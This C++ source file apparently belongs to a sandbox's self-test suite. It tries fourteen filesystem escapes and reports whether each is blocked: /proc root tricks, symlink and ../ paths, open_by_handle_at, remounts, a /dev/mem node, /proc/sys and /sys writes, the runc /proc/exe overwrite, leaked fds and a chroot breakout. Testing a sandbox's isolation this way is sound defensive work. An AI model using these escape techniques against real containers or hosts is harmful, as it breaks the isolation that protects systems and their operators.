// Reaching host files from inside: paths outside the view, tricks that resolve them anyway, and
// ways to change the view itself.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <array>
#include <cstring>

#include "base/directory_entries.h"
#include "selftest/attack_util.h"

namespace sbx::selftest {
namespace {

std::string base_name(const std::string& path) { return path.substr(path.rfind('/') + 1); }

Report read_canary_at(const AttackContext& c, const std::string& path) {
  const auto text = read_text(path);
  if (text && *text == c.targets.canary_text) return escaped("read the host's canary through " + path);
  return blocked(path + ": " + (text ? "other contents" : errno_text()));
}

Report write_host_path(const AttackContext& c) {
  const std::string path = c.targets.canary_dir + "/planted";
  const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) return blocked("create " + path + ": " + errno_text());
  ::close(fd);
  return escaped("created " + path);
}

Report read_host_file(const AttackContext& c) { return read_canary_at(c, c.targets.canary_file); }

Report symlink_in_workspace(const AttackContext& c) {
  ::unlink("canary-link");
  if (::symlink(c.targets.canary_file.c_str(), "canary-link") != 0) return blocked("symlink: " + errno_text());
  const int fd = ::open("canary-link", O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) return blocked("open through the link: " + errno_text());
  const bool wrote = ::write(fd, "!", 1) == 1;
  ::close(fd);
  return wrote ? escaped("appended to " + c.targets.canary_file + " through a workspace symlink")
               : blocked("write through the link: " + errno_text());
}

Report dotdot_from_workspace(const AttackContext& c) {
  return read_canary_at(c, "../" + base_name(c.targets.canary_dir) + "/secret");
}

Report proc_self_root(const AttackContext& c) { return read_canary_at(c, "/proc/self/root" + c.targets.canary_file); }

Report proc_pid_root(const AttackContext& c) {
  // The canary's root first, then every process this one can see.
  Report r = read_canary_at(c, "/proc/" + std::to_string(c.targets.canary_pid) + "/root" + c.targets.canary_file);
  if (r.escaped) return r;
  for (const auto& name : directory_entries("/proc").value_or({})) {
    if (name[0] < '1' || name[0] > '9') continue;
    Report each = read_canary_at(c, "/proc/" + name + "/root" + c.targets.canary_file);
    if (each.escaped) return each;
  }
  return blocked("no /proc/*/root reaches " + c.targets.canary_file + " (" + r.detail + ")");
}

Report open_by_handle(const AttackContext&) {
  // The "shocker" escape: file handles skip path resolution, so a handle guessed or made for a
  // host inode opens it. Getting any file open this way is the forbidden capability.
  alignas(file_handle) unsigned char storage[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
  auto* handle = reinterpret_cast<file_handle*>(storage);
  handle->handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (::name_to_handle_at(AT_FDCWD, "/", handle, &mount_id, 0) != 0) {
    return blocked("name_to_handle_at: " + errno_text());
  }
  const int root = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int fd = ::open_by_handle_at(root, handle, O_RDONLY | O_CLOEXEC);
  const int saved = errno;
  ::close(root);
  if (fd < 0) return blocked("open_by_handle_at: " + errno_text(saved));
  ::close(fd);
  return escaped("opened / by file handle");
}

Report remount_readonly(const AttackContext& c) {
  std::string target = "/usr";
  if (c.control) {
    // A read-only bind of our own, in namespaces of our own: the stage a sandbox sets.
    target = c.targets.workspace + "/ro";
    ::mkdir(target.c_str(), 0755);
    if (!enter_own_namespaces(CLONE_NEWNS)) return blocked("control: user namespace: " + errno_text());
    ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr);
    if (::mount(target.c_str(), target.c_str(), nullptr, MS_BIND, nullptr) != 0 ||
        ::mount(nullptr, target.c_str(), nullptr, MS_REMOUNT | MS_BIND | MS_RDONLY, nullptr) != 0) {
      return blocked("control: read-only bind: " + errno_text());
    }
  }
  if (::mount(nullptr, target.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) != 0) {
    return blocked("remount " + target + " read-write: " + errno_text());
  }
  return escaped("remounted " + target + " read-write");
}

Report mknod_device(const AttackContext&) {
  ::unlink("memdev");
  // 1:1 is /dev/mem; only the creation is attempted, never an open.
  if (::mknod("memdev", S_IFCHR | 0600, ::makedev(1, 1)) != 0) return blocked("mknod 1:1: " + errno_text());
  ::unlink("memdev");
  return escaped("created a character device node for /dev/mem");
}

// Writes a file's current value back: a successful write is the escape, and the host is left as
// it was when a control runs as root.
Report write_back(const std::string& path) {
  const auto value = read_text(path, 4096);
  if (!value) return blocked("read " + path + ": " + errno_text());
  const int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return blocked("open " + path + " for writing: " + errno_text());
  const bool wrote = ::write(fd, value->data(), value->size()) == static_cast<ssize_t>(value->size());
  const int saved = errno;
  ::close(fd);
  return wrote ? escaped("wrote " + path) : blocked("write " + path + ": " + errno_text(saved));
}

Report write_proc_sys(const AttackContext&) { return write_back("/proc/sys/vm/overcommit_ratio"); }
Report write_sys(const AttackContext&) { return write_back("/sys/class/net/lo/mtu"); }

Report overwrite_sbx_binary(const AttackContext& c) {
  // runc's CVE-2019-5736: reopen the runtime's executable for writing through /proc. The control
  // targets a copy the runner made, so the host's sbx is never written.
  const std::vector<std::string> paths =
      c.control ? std::vector<std::string>{c.targets.workspace + "/sbx-copy"}
                : std::vector<std::string>{"/proc/1/exe", "/proc/self/exe", c.targets.sbx_binary, "/sbx-selftest"};
  std::string tried;
  for (const auto& p : paths) {
    const int fd = ::open(p.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd >= 0) {
      ::close(fd);
      return escaped("opened " + p + " for writing");
    }
    tried += (tried.empty() ? "" : ", ") + p + ": " + errno_text();
  }
  return blocked(tried);
}

Report leaked_fd(const AttackContext& c) {
  for (int fd = 3; fd < 1024; ++fd) {
    struct stat st {};
    if (::fstat(fd, &st) != 0 || !S_ISDIR(st.st_mode)) continue;
    const int file = ::openat(fd, "secret", O_RDONLY | O_CLOEXEC);
    if (file < 0) continue;
    char buf[256] = {};
    const ssize_t n = ::read(file, buf, sizeof buf - 1);
    ::close(file);
    if (n > 0 && c.targets.canary_text == std::string(buf, static_cast<size_t>(n))) {
      return escaped("read the canary through inherited fd " + std::to_string(fd));
    }
  }
  return blocked("no inherited directory fd reaches the canary");
}

Report chroot_escape(const AttackContext& c) {
  if (c.control && !enter_own_namespaces(CLONE_NEWNS)) return blocked("control: user namespace: " + errno_text());
  ::mkdir("jail", 0755);
  if (::chroot("jail") != 0) return blocked("chroot: " + errno_text());
  // The classic escape: the cwd is outside the new root, so ".." walks up to the real one.
  for (int i = 0; i < 64; ++i) ::chdir("..");
  if (::chroot(".") != 0) return blocked("second chroot: " + errno_text());
  return read_canary_at(c, c.targets.canary_file);
}

constexpr std::array kAttacks = {
    Attack{"fs.write-host-path", "filesystem", "create a file in a host directory", write_host_path,
           HostCheck::kCanaryFile},
    Attack{"fs.read-host-file", "filesystem", "read a host file by its path", read_host_file},
    Attack{"fs.symlink-in-workspace", "filesystem", "write a host file through a symlink in the writable workspace",
           symlink_in_workspace, HostCheck::kCanaryFile},
    Attack{"fs.dotdot-from-workspace", "filesystem", "read a host file beside the workspace with ../",
           dotdot_from_workspace},
    Attack{"fs.proc-self-root", "filesystem", "read a host file through /proc/self/root", proc_self_root},
    Attack{"fs.proc-pid-root", "filesystem", "read a host file through /proc/PID/root of any process", proc_pid_root},
    Attack{"fs.open-by-handle", "filesystem", "open a file by handle (open_by_handle_at)", open_by_handle},
    Attack{"fs.remount-readonly", "filesystem", "remount a read-only mount read-write", remount_readonly},
    Attack{"fs.mknod-device", "filesystem", "create a device node (/dev/mem)", mknod_device},
    Attack{"fs.write-proc-sys", "filesystem", "write a kernel setting in /proc/sys", write_proc_sys},
    Attack{"fs.write-sys", "filesystem", "write a setting in /sys", write_sys},
    Attack{"fs.overwrite-sbx-binary", "filesystem", "open sbx's executable for writing via /proc/*/exe",
           overwrite_sbx_binary},
    Attack{"fs.leaked-fd", "filesystem", "use a directory fd inherited from the caller", leaked_fd},
    Attack{"fs.chroot-escape", "filesystem", "leave the root with chroot and ..", chroot_escape},
};

}  // namespace

std::span<const Attack> filesystem_attacks() { return kAttacks; }

}  // namespace sbx::selftest
